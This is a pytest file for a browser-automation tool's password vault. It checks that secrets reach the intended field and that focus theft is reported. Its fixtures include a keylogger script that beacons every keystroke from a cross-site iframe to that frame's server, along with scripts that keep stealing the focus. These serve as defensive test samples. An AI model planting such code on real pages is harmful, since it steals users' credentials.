"""Secrets go into the field that was meant, whole, in one step; of ordinary text it is told who took the focus."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from oryn.system import paths
from oryn.vault import Vault

pytestmark = [pytest.mark.browser, pytest.mark.usefixtures("quick_key_derivation")]

PASSWORD = "correct-horse-22"
TYPE = 'type "Word" "{{vault:shop.password}}"'

FIGHTS = {
    "timer": "setInterval(() => got.focus(), 0)",
    "frames": "(function again() { got.focus(); requestAnimationFrame(again) })()",
    "observer": "new MutationObserver(() => got.focus()).observe(document, {subtree: true, attributes: true});"
    "setInterval(() => document.body.toggleAttribute('x'), 0)",
}
TELLS = """<input id=got><script>for (const kind of ['keydown', 'keypress', 'beforeinput', 'input'])
  addEventListener(kind, (event) => navigator.sendBeacon('/got?' + (event.data ?? event.key)), true);</script>"""


@pytest.fixture
def vault(oryn: Any, tmp_path: Path) -> Vault:
    found = Vault(paths.find({"ORYN_HOME": str(tmp_path)}), "file", {})
    found.store("shop.password", PASSWORD, [oryn.pages.url().rstrip("/")])
    oryn.session.vault = lambda: found
    return found


@pytest.fixture
def focus_thief(oryn: Any) -> Any:
    """Shows a page with a frame of another site that fights for the focus; `got` is what its server was told."""
    got: list[str] = []

    def record(request: Any) -> str:
        got.append(request.path.partition("?")[2])
        return ""

    async def show(way: str) -> list[str]:
        oryn.pages["/got"] = record
        oryn.pages["/frame"] = f"{TELLS}<script>{FIGHTS[way]}</script>"
        frame = oryn.pages.url("/frame", host="localhost")
        await oryn.show(
            f"<input id=word aria-label=Word><input type=password id=p aria-label=Pass><iframe src={frame}></iframe>"
        )
        return got

    return show


async def value(oryn: Any, expression: str = "word.value") -> Any:
    return await oryn.session.page.evaluate(expression)


@pytest.mark.parametrize("way", FIGHTS)
async def test_a_frame_that_fights_for_the_focus_gets_nothing(
    oryn: Any, vault: Vault, focus_thief: Any, way: str
) -> None:
    got = await focus_thief(way)
    for line in (TYPE, 'type "Pass" "a literal one"', 'fill_form {"Pass": "{{vault:shop.password}}"}'):
        await oryn.ok(line)
    assert await value(oryn, "[word.value, p.value]") == [PASSWORD, PASSWORD]
    await oryn.ok('type "Pass" "another"')
    assert await value(oryn, "p.value") == "another"
    await value(oryn, "fetch('/got?end')")
    assert got == ["end"]


@pytest.mark.slow
async def test_focus_theft_is_reported_for_ordinary_text(oryn: Any, focus_thief: Any) -> None:
    got = await focus_thief("timer")
    text = "an ordinary text that is long enough to be fought for, by whoever wants the focus"
    # The frame takes the focus in a process of its own, which gets its turn before the last of the keys.
    answer = await oryn(f'type "Word" "{text}" --delay 20 --timeout 60s')
    assert answer.startswith("error ")
    assert "the focus went to iframe while the text was typed: the field holds " in answer
    assert "the others went there" in answer
    assert got


async def test_a_page_that_passes_the_focus_on(oryn: Any) -> None:
    await oryn.show("<input id=a maxlength=1 aria-label=First oninput='b.focus()'><input id=b aria-label=Second>")
    assert "# note" not in await oryn.ok("type First 123")
    assert await value(oryn, "[a.value, b.value]") == ["1", "23"]


@pytest.mark.parametrize(
    "page",
    [
        "<input id=word aria-label=Word oninput='word.value = word.value.toUpperCase().replace(/(...)/g, `$1 `)'>",
        "<input id=word aria-label=Word><script>word.oninput = () => { if (word.value.length == 9) { other.focus() } }"
        "</script><input id=other>",
        "<textarea id=word aria-label=Word></textarea>",
        "<div id=word contenteditable role=textbox aria-label=Word></div>",
    ],
)
async def test_nothing_is_told_of_text_that_arrived(oryn: Any, page: str) -> None:
    await oryn.show(page)
    assert "focus was" not in (answer := await oryn.ok('type Word "some text"')) and "the focus went" not in answer


@pytest.mark.parametrize("event", ["focus", "keydown", "beforeinput", "focusin", "keyup", "input"])
async def test_a_page_that_moves_the_focus(oryn: Any, vault: Vault, event: str) -> None:
    await oryn.show(
        "<input id=word aria-label=Word><input id=other>"
        f"<script>word.addEventListener('{event}', () => other.focus())</script>"
    )
    answer = await oryn(TYPE)
    held = await value(oryn, "[word.value, other.value]")
    if event in ("keyup", "input"):  # it has the value by then
        assert (answer[:2], held) == ("ok", [PASSWORD, ""])
    else:
        assert "the page moved the focus away from the field: nothing was written" in answer
        assert held == ["", ""]


async def test_the_page_hears_of_it_once(oryn: Any, vault: Vault) -> None:
    await oryn.show(
        "<input id=word aria-label=Word value=before><script>window.log = []; for (const kind of"
        " ['keydown', 'keypress', 'beforeinput', 'textInput', 'input', 'keyup', 'change']) word.addEventListener(kind,"
        " (e) => log.push([kind, e.isTrusted, e.data ?? e.key ?? null, word.value]))</script>"
    )
    await oryn.ok(TYPE)
    assert await value(oryn, "log") == [
        ["keydown", False, "Unidentified", "before"],
        ["beforeinput", False, PASSWORD, "before"],
        ["input", True, PASSWORD, PASSWORD],
        ["keyup", False, "Unidentified", PASSWORD],
    ]
    await oryn.ok("press tab")
    assert (await value(oryn, "log"))[-1][:2] == ["change", True]


@pytest.mark.parametrize(
    ("page", "held"),
    [
        ("<textarea id=word aria-label=Word>old</textarea>", "word.value"),
        ("<div id=word contenteditable role=textbox aria-label=Word>old <b>text</b></div>", "word.textContent"),
        ("<div id=host></div><script>host.attachShadow({mode: 'open'}).innerHTML ="
         " '<div id=inner></div>'; host.shadowRoot.firstChild.attachShadow({mode: 'open'}).innerHTML ="
         " '<input aria-label=Word value=old>'; window.deep = host.shadowRoot.firstChild.shadowRoot.firstChild</script>",
         "deep.value"),
        ("<iframe srcdoc='<iframe srcdoc=\"<input aria-label=Word value=old>\"></iframe>'></iframe>",
         "frames[0].frames[0].document.querySelector('input').value"),
        ("<form><img name=execCommand><img name=activeElement><input id=word name=value aria-label=Word></form>"
         "<form name=execCommand></form>", "word.value"),
        ("<input id=word type=email aria-label=Word>", "word.value"),
    ],
)  # fmt: skip
async def test_fields_of_every_kind(oryn: Any, vault: Vault, page: str, held: str) -> None:
    await oryn.show(page)
    await oryn.ok(TYPE)
    assert await value(oryn, held) == PASSWORD
    await oryn.ok('type Word "{{vault:shop.password}}" --append')
    assert await value(oryn, held) == PASSWORD * 2


async def test_frames_within_frames_of_other_sites(oryn: Any, vault: Vault) -> None:
    """The value goes to the innermost one, whatever the one between does."""
    home = oryn.pages.url("/inner")
    oryn.pages["/inner"] = "<input id=word aria-label=Word>"
    oryn.pages["/between"] = f"<input id=got><iframe src={home}></iframe><script>{FIGHTS['timer']}</script>"
    await oryn.show(f"<iframe src={oryn.pages.url('/between', host='localhost')}></iframe>")
    await oryn.ok(TYPE)
    between, inner = oryn.session.page.frames()[1:]
    assert await oryn.session.page.evaluate("word.value", inner) == PASSWORD
    assert await oryn.session.page.evaluate("got.value", between) == ""


@pytest.mark.parametrize(
    "script",
    [
        "word.oninput = () => { word.value = word.value.slice(0, 5) }",
        "word.oninput = () => { word.value = '' }",
        "word.onbeforeinput = (event) => event.preventDefault()",
        "word.onbeforeinput = (event) => { event.preventDefault(); word.value = event.data.slice(0, 5) }",
    ],
)
@pytest.mark.parametrize(
    "tag", ["<input id=word aria-label=Word value=before>", "<textarea id=word aria-label=Word>before</textarea>"]
)
async def test_partially_accepted_secret_is_removed(oryn: Any, vault: Vault, script: str, tag: str) -> None:
    await oryn.show(f"{tag}<script>word.value = 'before'; {script}</script>")
    answer = await oryn(TYPE)
    assert answer.startswith("error ")
    assert "the page did not keep the text put into the field" in answer
    assert await value(oryn) in ("before", "befor", "")  # the page's own handler works on what was there before, too


async def test_a_field_that_formats_or_limits_says_so(oryn: Any, vault: Vault) -> None:
    await oryn.show(
        "<input id=word aria-label=Word oninput='word.value = word.value.replace(/-/g, ` `).toUpperCase()'>"
    )
    assert "# note\nthe field shows it in another form: the same letters and digits" in await oryn.ok(TYPE)
    assert await value(oryn) == PASSWORD.replace("-", " ").upper()
    await oryn.show("<input id=word aria-label=Word maxlength=8>")
    assert "# note\nthe field takes 8 characters: the rest of 16 is missing" in await oryn.ok(TYPE)


async def test_an_editor_that_puts_text_in_by_itself(oryn: Any, vault: Vault) -> None:
    await oryn.show(
        "<div id=word contenteditable role=textbox aria-label=Word></div><script>word.onbeforeinput = (event) => {"
        " event.preventDefault(); setTimeout(() => { word.innerHTML = '<p></p>'; word.firstChild.textContent = event.data })"
        "}</script>"
    )
    await oryn.ok(TYPE)
    assert await value(oryn, "word.textContent") == PASSWORD


async def test_key_only_widget_gets_no_secret(oryn: Any, vault: Vault) -> None:
    await oryn.show("<div id=word role=textbox tabindex=0 aria-label=Word onkeydown='this.title += event.key'>x</div>")
    assert "no secret is typed so" in await oryn(TYPE)
    assert await value(oryn, "word.title") == ""


async def test_boxes_for_one_digit_each(oryn: Any) -> None:
    box = "<input type=password maxlength=1 aria-label='Digit {0}' oninput='this.nextElementSibling?.focus()'>"
    await oryn.show("".join(map(box.format, range(4))))
    await oryn.ok('type "Digit 0" "1234"')
    assert await value(oryn, "Array.from(document.querySelectorAll('input'), (each) => each.value).join('')") == "1234"


async def test_lines_and_tabs(oryn: Any, vault: Vault) -> None:
    await oryn.show(
        "<form onsubmit='event.preventDefault(); this.title = word.value'><input id=word aria-label=Word></form>"
    )
    await oryn.ok('type Word "{{vault:shop.password}}" --enter')
    assert await value(oryn, "document.forms[0].title") == PASSWORD
    await oryn.ok('type Word "{{vault:shop.password}}2\\n"')
    assert await value(oryn, "document.forms[0].title") == PASSWORD + "2"
    assert "a tab leaves the field" in await oryn('type Word "{{vault:shop.password}}\\tx"')
    vault.store("shop.lines", "first line\nthe second", [oryn.pages.url().rstrip("/")])
    assert "a field of one line takes no text of several" in await oryn('type Word "{{vault:shop.lines}}"')
    await oryn.show("<textarea id=word aria-label=Word></textarea>")
    await oryn.ok('type Word "{{vault:shop.lines}}"')
    assert await value(oryn) == "first line\nthe second"


async def test_an_opaque_origin_is_not_the_site(oryn: Any, vault: Vault) -> None:
    """What a server sends in a sandbox is somebody else's."""
    oryn.pages["/mail"] = "<input aria-label=Word id=word>"
    await oryn.show(f"<iframe sandbox='allow-scripts' src={oryn.pages.url('/mail')}></iframe>")
    answer = await oryn.session.execute(TYPE)
    assert answer.error is not None and answer.error.code == "VAULT_ORIGIN"
    oryn.pages["/box"] = (200, {"Content-Security-Policy": "sandbox allow-scripts"}, "<input aria-label=Word id=word>")
    await oryn.ok(f"goto {oryn.pages.url('/box')}")
    answer = await oryn.session.execute(TYPE)
    assert answer.error is not None and answer.error.code == "VAULT_ORIGIN"
    assert await value(oryn) == ""


REVEALED = {
    "the page changes the type": "<label>Word <input type=password id=w></label><button onclick=\"w.type='text'\">Show</button>",
    "autocomplete": "<label>Word <input autocomplete=current-password id=w></label><button>Show</button>",
}


@pytest.mark.parametrize("fields", REVEALED.values(), ids=REVEALED)
async def test_a_password_that_the_page_shows_is_in_no_answer(oryn: Any, fields: str) -> None:
    await oryn.show(f"<form>{fields}</form>")
    answers = [await oryn(line) for line in (f'type "Word" "{PASSWORD}"', 'click "Show"', "observe --full", "snapshot")]
    assert 'input/password "Word"' in answers[2]
    assert all(PASSWORD not in answer for answer in answers)


async def test_that_a_page_shows_a_password_is_a_state(oryn: Any) -> None:
    await oryn.show(REVEALED["the page changes the type"])
    await oryn(f'type "Word" "{PASSWORD}"')
    assert '~ [1] input/password "Word" {revealed}' in await oryn('click "Show"')


async def test_a_field_that_a_style_alone_hides_is_a_password(oryn: Any) -> None:
    await oryn.show("<label>Word <input style='-webkit-text-security: disc'></label>")
    assert PASSWORD not in await oryn(f'type "Word" "{PASSWORD}"')
    assert (await oryn("observe")).endswith('input/password "Word" {focused}')
